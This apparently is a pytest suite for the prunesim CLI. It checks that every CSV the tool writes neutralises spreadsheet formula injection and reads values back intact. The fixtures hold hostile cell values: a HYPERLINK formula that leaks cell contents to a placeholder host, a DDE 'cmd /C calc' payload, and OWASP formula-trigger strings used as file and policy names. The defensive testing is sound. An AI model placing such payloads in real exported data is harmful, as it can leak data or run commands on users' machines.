"""CSV files a spreadsheet opens without running anything, read back as the values a user gave.

Hostile text reaches every CSV prunesim writes (file names, an agent's commands, a policy's name and reason):
no cell of any of them starts a formula (OWASP: = + - @ tab CR first), numbers stay numbers, and prunesim's
readers and pandas (with ``api.unquote_cell``, docs/cli.md) give back exactly what the user gave.
"""

from __future__ import annotations

import csv
import io
import json
import math
import shutil
from pathlib import Path

import pytest
from cli_capture import cli
from hypothesis import given
from hypothesis import strategies as st
from policy_files import evicting
from prunesim import api
from prunesim.io import atomic, sweep_files
from prunesim.io.transcripts.keys import command_key
from prunesim.observe.cells import TRIGGERS, neutral, recover
from prunesim.observe.recorder import csv_field, csv_line
from prunesim.plots.io import read_run

FIXTURES = Path(__file__).resolve().parent / "fixtures"
ROOT = Path(__file__).resolve().parents[1]
COMMAND = '=HYPERLINK("http://example.invalid/?leak=" & A1, "ok")'
KEY = command_key(COMMAND)  # the content key trace.csv holds: the command, normalized
REASON = "=cmd|' /C calc'!A0"
POLICY = evicting("Hostile", "hostile", chosen="outputs[:1]", reason=REASON)


def _formula_start(cell: str) -> bool:
    """Would a spreadsheet run this cell? It starts (after spaces) with a trigger and is not a number."""
    return cell.lstrip(" ")[:1] in TRIGGERS and not isinstance(atomic.parse_cell(cell), (int, float))


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    (root / "tr").mkdir()
    chat = json.loads((FIXTURES / "openai.json").read_text())
    chat[2]["tool_calls"][0]["function"]["arguments"] = json.dumps({"command": COMMAND})
    (root / "tr" / "=1+2.json").write_text(json.dumps(chat))
    shutil.copy(FIXTURES / "mini.traj.json", root / "tr" / "@cmd.traj.json")
    shutil.copy(ROOT / "scenarios" / "oscillation-40.toml", root / "-cmd.toml")
    (root / "+p.py").write_text(POLICY)
    policy = f"{root / '+p.py'}:Hostile"
    small = ("--set", "turns=25")
    commands = [
        ("run", "--workload", root / "tr" / "=1+2.json", "--set", "trigger=20", "--policy", "recency",
         "--out", root / "replayed"),
        ("run", root / "-cmd.toml", "--policy", policy, *small, "--out", root / "run"),
        ("sweep", root / "-cmd.toml", "--grid", "trigger=20000,22000", "--policies", f"naive,{policy}",
         "--seeds", "0:3", *small, "--jobs", "1", "--quiet", "--out", root / "sweep"),
        ("aggregate", root / "sweep", "--resamples", "100"),
        ("leaderboard", root / "tr", "--policies", "noop,recency", "--out", root / "lb"),
        ("replay-dir", root / "tr", "--policies", "noop", "--out", root / "rows.csv"),
        ("compare", root / "-cmd.toml", "--policies", f"naive,{policy}", "--seeds", "0:3", *small, "--format",
         "csv", "--out", root / "compare.csv"),
    ]
    for argv in commands:
        code, _, err = cli(*argv)
        assert code == 0, (argv, err)
    return root


def test_no_cell_of_any_csv_starts_a_formula(made):
    files = sorted(made.rglob("*.csv"))
    names = {p.relative_to(made).as_posix() for p in files}
    assert {"replayed/trace.csv", "run/trace.csv", "run/events.csv", "sweep/runs.csv", "sweep/aggregate.csv",
            "lb/runs.csv", "lb/leaderboard.csv", "rows.csv", "compare.csv"} <= names
    for path in files:
        bad = [c for c in _cells(path) if _formula_start(c)]
        assert bad == [], f"{path}: {bad[:3]}"
    # and the hostile text did reach them, guarded
    text = {p.relative_to(made).as_posix(): p.read_text() for p in files}
    assert "'" + KEY in text["replayed/trace.csv"] and KEY.startswith("=")
    assert REASON in text["run/trace.csv"]  # inside its cause (nonmodel_...): not a cell's start
    assert "\n'=1+2," in text["rows.csv"] and "\n'@cmd," in text["lb/runs.csv"]
    assert ",'-cmd," in text["sweep/runs.csv"]


def test_prunesim_reads_back_the_values_the_user_gave(made):
    rows = sweep_files.read_runs(made / "sweep")
    assert {r["scenario"] for r in rows} == {"-cmd"}
    assert {r["policy"] for r in rows} == {"naive", f"{made / '+p.py'}:Hostile"}
    keys = {r["key"] for r in read_run(made / "replayed").trace}
    assert KEY in keys
    assert f"nonmodel_{REASON}" in {r["event"] for r in read_run(made / "run").trace}
    assert cli("report", made / "sweep", made / "run", made / "lb", "--out", made / "report.html")[0] == 0


def test_pandas_with_unquote_cell_gives_the_values_and_numbers_stay_numbers(made):
    pd = pytest.importorskip("pandas", reason="needs pandas: pip install '.[test]'")
    runs = pd.read_csv(made / "sweep" / "runs.csv").map(api.unquote_cell)  # the recipe of docs/cli.md
    assert set(runs["scenario"]) == {"-cmd"}
    assert pd.api.types.is_numeric_dtype(runs["net_negative_passes"])
    assert pd.api.types.is_numeric_dtype(runs["band_floor"])
    rows = pd.read_csv(made / "rows.csv").map(api.unquote_cell)
    assert set(rows["transcript"]) == {"=1+2", "@cmd"}
    trace = pd.read_csv(made / "replayed" / "trace.csv", keep_default_na=False).map(api.unquote_cell)
    assert KEY in set(trace["key"]) and pd.api.types.is_numeric_dtype(trace["delta"])
    assert (trace["delta"] < 0).any()  # removals are negative numbers, written as numbers


def test_the_docs_recipe_is_the_one_tested():
    assert 'pandas.read_csv("sweep-out/runs.csv").map(api.unquote_cell)' in (ROOT / "docs" / "cli.md").read_text()


# -- the rule, for any text -------------------------------------------------------------------------------
# No name holds a NUL (the readers refuse it) or a lone surrogate (a name that is not UTF-8 reaches a table as \xff).
NO_NUL = st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",))
TEXT = st.text(alphabet=st.sampled_from("=+-@\t\r' a1.,\"\ne"), max_size=8) | st.text(NO_NUL, max_size=8)


@given(TEXT)
def test_a_guarded_cell_never_starts_a_formula_and_recovers(text):
    cell = neutral(text)
    assert recover(cell) == text
    assert neutral(recover(cell)) == cell  # reading back and writing again changes nothing
    assert not _formula_start(cell) or cell == text  # only a number is left starting with a sign
    if cell != text:
        assert cell == "'" + text


@given(st.integers(-(10**12), 10**12) | st.floats(allow_nan=False))
def test_numbers_are_written_as_numbers(value):
    text = atomic.format_cell(value)
    assert neutral(text) == text
    assert atomic.parse_cell(text) == value or (math.isinf(value) and atomic.parse_cell(text) == value) or \
        atomic.parse_cell(text) == pytest.approx(round(value, 6))


@given(st.lists(TEXT, min_size=1, max_size=5))
def test_a_line_and_a_file_read_back_cell_for_cell(cells):
    line = csv_line(cells)
    (row,) = sweep_files.parse_csv(line.encode("utf-8"), Path("x.csv"))
    assert row == cells
    table = atomic.csv_text(["a"] * len(cells), [cells])
    assert sweep_files.parse_csv(table.encode("utf-8"), Path("x.csv"))[1] == cells
    assert csv_field(cells[0]) == csv_line([cells[0], ""])[:-2]


def test_owasp_examples():
    for attack in ("=1+2", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2",
                   "  =1+2"):
        assert neutral(attack) == "'" + attack
    for number in ("-3", "+4", "-1.5e-07", "-inf", "12"):
        assert neutral(number) == number
    assert io.StringIO(csv_line(["=1+2"])).read() == "'=1+2\n"
